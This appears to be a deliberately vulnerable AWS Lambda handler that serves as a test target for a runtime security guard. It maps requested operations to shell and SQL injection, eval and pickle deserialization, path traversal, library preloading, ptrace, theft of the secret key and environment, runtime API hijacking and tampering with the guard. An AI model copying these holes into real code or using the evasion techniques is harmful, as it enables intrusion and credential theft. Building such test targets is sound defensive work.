"""Does what its event asks for, and trusts it: a victim for the attack matrix. `op` names the operation, `v` is the value it uses."""
import base64
import ctypes
import errno
import gc
import importlib.util
import io
import itertools
import json
import marshal
import mmap
import os
import pickle
import re
import shutil
import socket
import sqlite3
import struct
import subprocess
import sys
import time
import types
import urllib.parse
import urllib.request
import zipfile

DATA = "/var/task/data"
BACKEND = os.environ["BACKEND"]


def request(event):
    if "detail" in event:
        return event["detail"]["op"], event["detail"]["v"]
    if "Records" in event:
        record = event["Records"][0]
        if "s3" in record:
            return record["s3"]["bucket"]["name"], urllib.parse.unquote_plus(record["s3"]["object"]["key"])
        if "dynamodb" in record:
            image = record["dynamodb"]["NewImage"]
            return image["op"]["S"], image["v"]["S"]
        text = record["body"] if "body" in record else record["Sns"]["Message"] if "Sns" in record else base64.b64decode(record["kinesis"]["data"])
        body = json.loads(text)
        return body["op"], body["v"]
    if event.get("queryStringParameters"):
        query = event["queryStringParameters"]
        if query["op"] == "cookie":
            return "cookie", urllib.parse.unquote(event["cookies"][1].split("=", 1)[1])
        if query["op"] == "names":
            return "names", " ".join(name for name in query if name != "op")
        if query["op"] == "parts":
            return "parts", " ".join(json.loads(event["body"])["parts"])
        return query["op"], query["v"] if "v" in query else base64.b64encode(upload(event)).decode()
    body = json.loads(base64.b64decode(event["body"]) if event.get("isBase64Encoded") else event["body"])
    return body["op"], body["v"]


def upload(event):
    """What was sent as bytes: the body, or the file in a form behind its first field."""
    body = base64.b64decode(event["body"])
    boundary = event["headers"]["content-type"].partition("boundary=")[2].encode()
    return body.split(b"--" + boundary)[2].partition(b"\r\n\r\n")[2][:-2] if boundary else body


def sh(command):
    return subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, errors="replace").stdout


def run(*argv, **options):
    return subprocess.run(argv, capture_output=True, text=True, errors="replace", **options).stdout


def text_of(path):
    with open(path, errors="replace") as file:
        return file.read()


def write(path, content="x"):
    with open(path, "w") as file:
        file.write(content)
    return "written " + path


def get(url):
    with urllib.request.urlopen(url, timeout=2) as answer:
        return answer.read().decode()


def call(operation):
    """By AWS's own client, which is imported as late as a function may."""
    import boto3
    name, method = operation.split(":")
    client = boto3.client(name, region_name="us-east-1", endpoint_url=f"http://{name}.us-east-1.amazonaws.com:{os.environ['AWS_PORT']}")
    if method == "Scan":
        return str(client.scan(TableName="table")["Items"])
    if method == "GetItem":
        return str(client.get_item(TableName="table", Key={"id": {"S": "1"}})["Item"])
    if method == "UpdateFunctionCode":
        return client.update_function_code(FunctionName="other", S3Bucket="bucket", S3Key="key")["Description"]
    return client.invoke(FunctionName="other")["Payload"].read().decode()


def connect(target):
    host, port = target.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=0.5):
        return "connected"


def lookup(name):
    try:
        return "found " + socket.getaddrinfo(name, 80)[0][4][0]
    except socket.gaierror as error:
        return f"looked up, {error}"


def load_yaml(text):
    """What `yaml.load` of old did with `!!python/object/apply:module.function ["argument"]`."""
    tag = "!!python/object/apply:"
    if not text.startswith(tag):
        return text
    name, argument = text[len(tag):].split(" ", 1)
    module, function = name.rsplit(".", 1)
    result = getattr(__import__(module), function)(*json.loads(argument))
    return result.read() if hasattr(result, "read") else str(result)


def memfd():
    descriptor = os.memfd_create("x")
    with open("/bin/echo", "rb") as program:
        os.write(descriptor, program.read())
    return run(f"/proc/self/fd/{descriptor}", "from-memory", pass_fds=[descriptor])


def child():
    return subprocess.Popen(["/bin/sleep", "5"])


def with_child(action):
    process = child()
    try:
        return action(process.pid)
    finally:
        process.kill()
        process.wait()


def libc():
    library = ctypes.CDLL(None, use_errno=True)
    library.ptrace.restype = ctypes.c_long
    return library


def ptrace(pid):
    if libc().ptrace(ctypes.c_long(0x4206), ctypes.c_long(pid), None, None) != 0:  # PTRACE_SEIZE
        raise OSError(ctypes.get_errno(), "ptrace")
    return "traced"


def machine(what):
    """System calls by machine code of one's own."""
    # Moves each argument one register on, and calls: the first is the number.
    code = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 0f05 c3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    call = ctypes.CFUNCTYPE(*[ctypes.c_long] * 6)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if what in ("environ", "words"):
        path = ctypes.create_string_buffer(b"/proc/self/environ" if what == "environ" else DATA.encode() + b"/words.txt")
        file = call(257, -100, ctypes.addressof(path), 0, 0)
        if file < 0:
            raise OSError(-file, "open")
        return os.read(file, 65536).decode()
    host, port = (upstream() if what == "platform" else BACKEND).split(":")
    name = ctypes.create_string_buffer(struct.pack("<H", socket.AF_INET) + struct.pack(">H", int(port)) + socket.inet_aton(host) + bytes(8))
    return "connected" if call(42, call(41, socket.AF_INET, socket.SOCK_STREAM, 0, 0), ctypes.addressof(name), 16, 0) == 0 else "refused"


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def process_vm_writev(pid):
    word = ctypes.create_string_buffer(8)
    local = Iovec(ctypes.addressof(word), 8)
    start = int(next(line for line in text_of(f"/proc/{pid}/maps").splitlines() if "[stack]" in line).split("-")[0], 16)
    remote = Iovec(start, 8)
    if libc().process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != 8:
        raise OSError(ctypes.get_errno(), "process_vm_writev")
    return "changed its memory"


def own_memory():
    start = int(next(line for line in text_of("/proc/self/maps").splitlines() if "[stack]" in line).split("-")[0], 16)
    with open("/proc/self/mem", "rb") as memory:
        memory.seek(start)
        return f"read {len(memory.read(8))} bytes of memory"


def link(target):
    path = "/tmp/innocent"
    if os.path.lexists(path):
        os.unlink(path)
    os.symlink(target, path)
    return text_of(path)


def job(script, *argv):
    write("/tmp/job.sh", script)
    return run("/bin/sh", "/tmp/job.sh", *argv)


def dropped():
    write("/tmp/dropped.sh", "#!/bin/sh\necho it-ran\n")
    os.chmod("/tmp/dropped.sh", 0o755)
    return run("/tmp/dropped.sh")


def in_users(statement):
    db = sqlite3.connect(":memory:")
    db.executescript("create table users(name, password); insert into users values('anna','a-secret'),('bert','b-secret')")
    return json.dumps(db.execute(statement).fetchall())


def users(name):
    return in_users(f"select password from users where name='{name}'")


def accounts(name):
    """The same in a database of its own, by a library of others."""
    import psycopg2

    host, port = os.environ["DATABASE"].split(":")
    with psycopg2.connect(host=host, port=port, user="postgres", sslmode="disable") as db, db.cursor() as cursor:
        cursor.execute(f"select password from users where name='{name}'")
        return json.dumps(cursor.fetchall())


def accounts_encrypted(name):
    """The same by a driver that speaks for itself."""
    import pg8000

    host, port = os.environ["DATABASE"].split(":")
    db = pg8000.connect(host=host, port=int(port), user="postgres", ssl=True)
    try:
        cursor = db.cursor()
        cursor.execute(f"select password from users where name='{name}'")
        return json.dumps([list(row) for row in cursor.fetchall()])
    finally:
        db.close()


def poison(_):
    os.makedirs("/tmp/.pellicle", exist_ok=True)
    return write("/tmp/.pellicle/policy.json", '{"schemaVersion":1,"mode":"off"}')


def signal_guard(_):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and b"/opt/extensions/pellicle" in text_bytes(f"/proc/{entry}/cmdline"):
            os.kill(int(entry), 18)
            return "signalled the guard"
    return "no guard"


def unzip(archive):
    """Trusts the names in an archive."""
    os.makedirs("/tmp/uploads", exist_ok=True)
    with zipfile.ZipFile(io.BytesIO(base64.b64decode(archive))) as package:
        paths = [os.path.normpath(os.path.join("/tmp/uploads", entry.filename)) for entry in package.infolist()]
        for path, entry in zip(paths, package.infolist()):
            write(path, package.read(entry).decode())
    return "unpacked " + " ".join(paths)


def send_datagram(target):
    host, port = target.rsplit(":", 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(b"what was found", (host, int(port)))
        except OSError as error:
            if error.errno != errno.ENETUNREACH:
                raise
    return "sent"  # or this machine has no way there


def preload(_):
    shutil.copyfile("/var/task/data/hook.so", "/tmp/hook.so")
    return run("/bin/sh", "/var/task/script.sh", env={**os.environ, "LD_PRELOAD": "/tmp/hook.so"})


def first(_):
    write("/tmp/first.sh", "echo loaded-it\n")
    return run("/bin/bash", "-c", "true", env={**os.environ, "BASH_ENV": "/tmp/first.sh"})


def hooked(where):
    """A child that is told to load a file first: one that was dropped, or one of the package."""
    folder = DATA + "/hooks"
    if where == "dropped":
        folder = shutil.copytree(folder, "/tmp/hooks", dirs_exist_ok=True)
    return run(sys.executable, "-c", "pass", env={**os.environ, "PYTHONPATH": folder})


LEFT = []
LIBRARIES = itertools.count()


def leave(*argv):
    LEFT.append(subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    os.makedirs("/tmp/uploads", exist_ok=True)
    write("/tmp/uploads/left.pid", f"{LEFT[-1].pid}\n")
    return "left behind"


def persist(_):
    """Leaves a process behind, and tries something else that an intruder does."""
    left = leave("/usr/bin/tail", "-f", "/dev/null")
    try:
        text_of("/proc/self/environ")
    except OSError:
        pass  # stopped
    return left


def pause():
    time.sleep(2.5)
    return "paused"


class Customer:
    def __init__(self):
        self.name = "Anna"


def keep(text):
    content = base64.b64decode(text)
    with open("/tmp/kept.bin", "wb") as file:
        file.write(content)
    return f"kept {len(content)} bytes"


def load_file(path):
    if os.path.exists("/tmp/loaded.txt"):
        os.unlink("/tmp/loaded.txt")
    ctypes.CDLL(path)
    return text_of("/tmp/loaded.txt")


def load(library):
    """In a file of its own: what is loaded already is not loaded again."""
    path = f"/tmp/library-{next(LIBRARIES)}.so"
    with open(path, "wb") as file:
        file.write(library)
    return load_file(path)


def module(name, text):
    write(f"/tmp/{name}.py", text)
    specification = importlib.util.spec_from_file_location(name, f"/tmp/{name}.py")
    made = importlib.util.module_from_spec(specification)
    specification.loader.exec_module(made)
    return made.x


def run_marshalled(text):
    names = {}
    exec(marshal.loads(base64.b64decode(text)), names)
    return names["found"]


def unhook(_):
    """Exchanges the code of whatever looks like an audit hook, as is done to those written in Python."""
    def nothing(*arguments, **named):
        return None
    for found in gc.get_objects():
        if isinstance(found, types.FunctionType) and re.search("audit|pellicle", found.__qualname__, re.I) and not found.__code__.co_freevars:
            found.__code__ = nothing.__code__
    return text_of("/proc/self/environ")


def text_bytes(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


OPERATIONS = {
    "shell": lambda v: sh("echo report " + v),
    "cookie": lambda v: sh("echo report " + v),
    "names": lambda v: sh("echo report " + v),
    "parts": lambda v: sh("echo report " + v),
    "shell-twice": lambda v: sh("echo report " + base64.b64decode(base64.b64decode(v)).decode()),
    "shell-base32": lambda v: sh("echo report " + base64.b32decode(v).decode()),
    "shell-reversed": lambda v: sh("echo report " + v[::-1]),
    "launch": lambda v: run("/usr/bin/env", *v.split(" ")),
    "launch-own": lambda v: run("/usr/bin/env", f"CUSTOMER={v}", "/bin/cat", f"{DATA}/words.txt"),
    "keep": keep,
    "resolver": lambda v: send_datagram("198.51.100.53:53"),
    "resolver-own": lambda v: send_datagram("127.0.0.53:53"),
    "page-link": lambda v: f"<html><body><a href='{v}'>Your site</a></body></html>",
    "awk": lambda v: run("/usr/bin/awk", f'{{print $0, "{v}"}}', os.path.join(DATA, "words.txt")),
    "page": lambda v: f"<html><body><p>Dear {v}</p></body></html>",
    "library": lambda v: load(base64.b64decode(v)),
    "library-own": lambda v: load_file(DATA + "/library.so"),
    "module": lambda v: module("sent", v),
    "module-own": lambda v: module("own", "# Settings of this environment, made by the function itself.\nx = " + json.dumps(v) + "\n"),
    "marshal": run_marshalled,
    "marshal-data": lambda v: str(marshal.loads(base64.b64decode(v))),
    "processes": lambda v: run("/bin/sh", "/var/task/processes.sh"),
    "environ-list": lambda v: sh("ps axeww"),
    "tar": lambda v: sh_tar(v),
    "read": lambda v: text_of(os.path.join(DATA, v)),
    "read-base64": lambda v: text_of(os.path.join(DATA, base64.b64decode(v).decode())),
    "sed": lambda v: run("/bin/sed", f"s/NAME/{v}/", os.path.join(DATA, "words.txt")),
    "cat": lambda v: run("/bin/cat", *v.split(" "), cwd=DATA),
    "untar": lambda v: untar(v),
    "ld-so": lambda v: ld_so(),
    "write": lambda v: write_upload(v),
    "delete": lambda v: delete_upload(v),
    "fetch": lambda v: get(v if "://" in v else f"http://{BACKEND}/{v}"),
    "connect": connect,
    "connect-backend": lambda v: connect(BACKEND),
    "connect-other": lambda v: connect(os.environ["OTHER"]),
    "lookup": lookup,
    "eval": lambda v: str(eval(v)),
    "template": lambda v: re.sub(r"\{\{(.*?)\}\}", lambda found: str(eval(found[1].strip())), v),
    "format": lambda v: v.format(Customer()),
    "unzip": unzip,
    "datagram": lambda v: send_datagram(os.environ["OTHER"]),
    "preload": preload,
    "first": first,
    "hooked": hooked,
    "persist": persist,
    "stay-shell": lambda v: leave("/bin/sh", "-c", "read x"),
    "survivor": lambda v: run("/bin/sh", "/var/task/survivor.sh"),
    "pause": lambda v: pause(),
    "aws": lambda v: get(f"http://{v}.us-east-1.amazonaws.com:{os.environ['AWS_PORT']}/"),
    "call": call,
    "mine": lambda v: connect(os.environ["POOL"]),
    "unhook": unhook,
    "switch-runtime": lambda v: run("/bin/bash", "/var/task/switch.sh", str(os.getpid()), *os.environ["AWS_LAMBDA_RUNTIME_API"].split(":"), REQUEST_ID),
    "deserialize": lambda v: str(pickle.loads(base64.b64decode(v))),
    "yaml": load_yaml,
    "sql": users,
    "sql-number": lambda v: in_users(f"select password from users where rowid={v}"),
    "sql-quoted": lambda v: in_users("select password from users where name='%s'" % v.replace("'", "''")),
    "postgresql": accounts,
    "postgresql-tls": accounts_encrypted,
    "environ": lambda v: text_of("/proc/self/environ"),
    "environ-link": lambda v: link("/proc/self/environ"),
    "environ-child": lambda v: sh("tr '\\0' '\\n' </proc/$PPID/environ"),
    "environ-cleared": lambda v: run("/usr/bin/env", "-i", "/bin/sh", "-c", "tr '\\0' '\\n' </proc/$PPID/environ"),
    "memory": lambda v: own_memory(),
    "link": lambda v: link(DATA + "/words.txt"),
    "dropped": lambda v: dropped(),
    "job": job,
    "job-own": lambda v: job('#!/bin/sh\necho "the nightly report for $1"\n', v),
    "memfd": lambda v: memfd(),
    "raw": lambda v: run("/var/task/raw", v),
    "machine": machine,
    "variable": lambda v: run("/bin/bash", "-c", f"cat {DATA}/words.txt", env={**os.environ, **dict([v.split("=", 1)])}),
    "script": lambda v: run("/bin/sh", "/var/task/script.sh"),
    "stop-runtime": lambda v: sh("kill -STOP $PPID; kill -CONT $PPID && echo stopped-it"),
    "stop-own": lambda v: sh("sleep 5 & kill -TERM $! && echo stopped-own"),
    "signal-guard": signal_guard,
    "ptrace": lambda v: with_child(ptrace),
    "process-vm": lambda v: with_child(process_vm_writev),
    "child": lambda v: with_child(lambda pid: f"child {pid > 0}"),
    "poll": lambda v: bash_http("GET", "/2018-06-01/runtime/invocation/next", ""),
    "poll-upstream": lambda v: bash_http("GET", "/2018-06-01/runtime/invocation/next", "", upstream()),
    "answer": lambda v: bash_http("POST", "/2018-06-01/runtime/invocation/01234567-89ab-cdef-0123-456789abcdef/response", "stolen"),
    "answer-current": lambda v: bash_http("POST", f"/2018-06-01/runtime/invocation/{REQUEST_ID}/response", '"stolen"'),
    "leak": lambda v: "leaked:" + os.environ["AWS_SECRET_ACCESS_KEY"],
    "key-id": lambda v: "role key id has %d characters" % len(os.environ["AWS_ACCESS_KEY_ID"]),
    "poison": poison,
    "note": lambda v: write("/tmp/note.txt"),
    "uname": lambda v: run("/bin/uname"),
    "background": lambda v: background(),
    "sleepers": lambda v: sh("cat /proc/[0-9]*/stat 2>/dev/null | grep -c '(sleep) [^Z]'"),
    "dump": lambda v: "row,password\n" * 20000,
    "none": lambda v: "nothing",
}


def sh_tar(v):
    run("/bin/tar", "cf", "/tmp/out.tar", "-C", DATA, v, "words.txt")
    return "uid=" + text_bytes("/tmp/out.tar")[4:40].decode("latin-1") if text_bytes("/tmp/out.tar")[:4] == b"uid=" else "archived"


def untar(v):
    os.makedirs("/tmp/uploads", exist_ok=True)
    with open("/tmp/in.tar", "wb") as file:
        file.write(base64.b64decode(v))
    run("/bin/tar", "xPf", "/tmp/in.tar", "-C", "/tmp/uploads")
    return "unpacked " + text_of("/tmp/uploads/" + run("/bin/tar", "tPf", "/tmp/in.tar").strip())


def ld_so():
    shutil.copyfile("/bin/cat", "/tmp/dropped-cat")
    return "it-read " + run("/lib64/ld-linux-x86-64.so.2", "/tmp/dropped-cat", os.path.join(DATA, "words.txt"))


def write_upload(v):
    os.makedirs("/tmp/uploads", exist_ok=True)
    return write(os.path.join("/tmp/uploads", v))


def delete_upload(v):
    os.makedirs("/tmp/uploads", exist_ok=True)
    write("/tmp/uploads/old.txt")
    write("/tmp/precious.txt")
    os.unlink(os.path.join("/tmp/uploads", v))
    return "deleted"


def background():
    subprocess.Popen(["/bin/sleep", "30"], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return "left behind"


def upstream():
    channel = os.environ.get("PELLICLE_CHANNEL", "")
    return channel.split("/", 1)[1] if "/" in channel else os.environ["AWS_LAMBDA_RUNTIME_API"]


def bash_http(method, path, body, address=None):
    host, port = (address or os.environ["AWS_LAMBDA_RUNTIME_API"]).split(":")
    return run("/bin/bash", "/var/task/http.sh", host, port, method, path, body)


def handler(event, context):
    try:
        global REQUEST_ID
        REQUEST_ID = context.aws_request_id
        op, v = request(event)
        return {"statusCode": 200, "body": OPERATIONS[op](v)}
    except Exception as error:
        return {"statusCode": 500, "body": f"error: {type(error).__name__}"}
